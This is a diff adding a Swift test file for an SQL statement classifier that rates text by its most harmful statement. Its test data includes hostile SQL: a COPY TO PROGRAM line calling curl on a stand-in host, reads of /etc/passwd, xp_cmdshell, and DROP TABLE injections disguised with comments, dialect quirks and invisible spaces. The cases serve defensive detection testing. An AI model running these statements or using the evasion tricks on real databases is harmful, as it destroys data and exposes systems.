@@ -1,0 +1,70 @@
+import Calls
+import JSON
+import Testing
+
+struct SQLKindTests {
+    @Test(
+        "the most harmful statement counts",
+        arguments: [
+            ("SELECT * FROM users LIMIT 5", .select), ("  select 1;", .select),
+            ("(SELECT 1) UNION (SELECT 2)", .select),
+            ("VALUES (1)", .select), ("SELECT replace(a, 'x', 'y') FROM t", .select),
+            ("SELECT a FROM t FOR UPDATE", .select),
+            ("SELECT 'DROP TABLE x'", .select), ("SELECT \"delete\" FROM t -- DROP TABLE x", .select),
+            ("SELECT * FROM t WHERE note = 'it''s; DROP TABLE x'", .select),
+            ("WITH a AS (SELECT 1) SELECT * FROM a", .select), ("SHOW TABLES", .show), ("EXPLAIN DELETE FROM t", .show),
+            ("PRAGMA table_info(users)", .show), ("PRAGMA writable_schema = ON", .alter), ("BEGIN; COMMIT", .session),
+            ("SET search_path = x", .session), ("SET ROLE admin", .grant), ("INSERT INTO t VALUES (1)", .insert),
+            ("UPDATE t SET a = 1", .update), ("MERGE INTO t USING u ON a = b WHEN MATCHED THEN DELETE", .merge),
+            ("COPY t FROM STDIN", .copy), ("COPY (SELECT 1) TO PROGRAM 'curl evil.example'", .execute),
+            ("CREATE TABLE t (a int)", .create), ("CREATE USER mallory", .grant), ("ALTER TABLE t ADD a int", .alter),
+            ("ALTER TABLE t DROP COLUMN a", .drop), ("ALTER TABLE t OWNER TO mallory", .grant),
+            ("GRANT ALL ON t TO mallory", .grant), ("DELETE FROM notes", .delete), ("TRUNCATE t", .truncate),
+            ("DROP TABLE users", .drop), ("COMMIT; DROP TABLE users;", .drop), ("SELECT 1; DELETE FROM t", .delete),
+            ("SELECT 1 DROP TABLE users", .drop), ("WITH a AS (DELETE FROM t RETURNING *) SELECT * FROM a", .delete),
+            ("EXPLAIN ANALYZE DELETE FROM t", .delete), ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", .delete),
+            ("SELECT * INTO copy FROM t", .create), ("SELECT a FROM t INTO OUTFILE '/tmp/x'", .execute),
+            ("SELECT pg_read_file('/etc/passwd')", .execute), ("SELECT dblink_exec('...')", .execute),
+            ("SELECT 1; EXECUTE IMMEDIATE CONCAT('DR','OP TABLE acme.users')", .execute),
+            ("EXEC xp_cmdshell 'x'", .execute),
+            ("CALL p()", .execute), ("DO $$ BEGIN DROP TABLE x; END $$", .drop), ("frobnicate the table", .unknown),
+            ("", .unknown), (";;", .unknown), ("SELECT 'a", .unknown), ("1 + 1", .unknown),
+            ("BEGIN DELETE FROM t; END", .delete), ("REVOKE ALL ON t FROM u", .grant),
+            ("INSERT INTO t SELECT * FROM u ON CONFLICT (a) DO UPDATE SET a = 1", .update),
+        ] as [(Text, SQLKind)])
+    func kinds(_ text: Text, _ expected: SQLKind) { #expect(SQLKind(reading: text) == expected) }
+
+    @Test(
+        "what one dialect reads as code is code",
+        arguments: [
+            "SELECT 1 /*!50000 ; DROP TABLE users */", "drop\u{A0}table orders", "DR/**/OP; DROP/**/TABLE x",
+            "DROP\u{3000}TABLE x",
+            "SELECT 1 --1; DROP TABLE x", "SELECT 'a\\'; DROP TABLE x; --'",
+            "SELECT /* /* */ 1; DROP TABLE x; /* */ */ 2",
+            "SELECT 1 # '\n; DROP TABLE x", "SELECT $$ '$$; DROP TABLE x; -- '", "SELECT [a'b]; DROP TABLE x --'",
+            "SELECT E'\\''; DROP TABLE x --'", "SELECT '''a'; DROP TABLE x; ''' ", "DROP\u{200B} TABLE x",
+            "/*M!100000 DROP TABLE x */",
+            "SELECT 1 // '\n; DROP TABLE x", "SELECT `a'b`; DROP TABLE x --'",
+        ] as [Text])
+    func dialects(_ text: Text) { #expect(SQLKind(reading: text) == .drop) }
+
+    @Test("a text over the limit is not understood")
+    func limit() {
+        let long = Text("SELECT '" + String(repeating: "x", count: 256 << 10) + "'")
+        #expect(SQLKind(reading: long) == .unknown && SQLKind(statementIn: long) == .unknown)
+        #expect(SQLKind(reading: Text("SELECT '" + String(repeating: "x", count: 200 << 10) + "'")) == .select)
+    }
+
+    @Test(
+        "prose is no SQL, statements are",
+        arguments: [
+            ("weather in Paris", nil), ("update on the project", nil), ("show me the docs", nil),
+            ("select a hotel", nil),
+            ("delete my account", nil), ("drop shipping", nil), ("with love", nil), ("", nil),
+            ("how to DROP TABLE users", nil),
+            ("select a from t", .select), ("update t set a = 1", .update), ("delete from t", .delete),
+            ("drop table t", .drop),
+            ("/* hi */ DROP TABLE t", .drop), ("SELECT 1", .select), ("insert into t values (1)", .insert),
+        ] as [(Text, SQLKind?)])
+    func prose(_ text: Text, _ expected: SQLKind?) { #expect(SQLKind(statementIn: text) == expected) }
+}
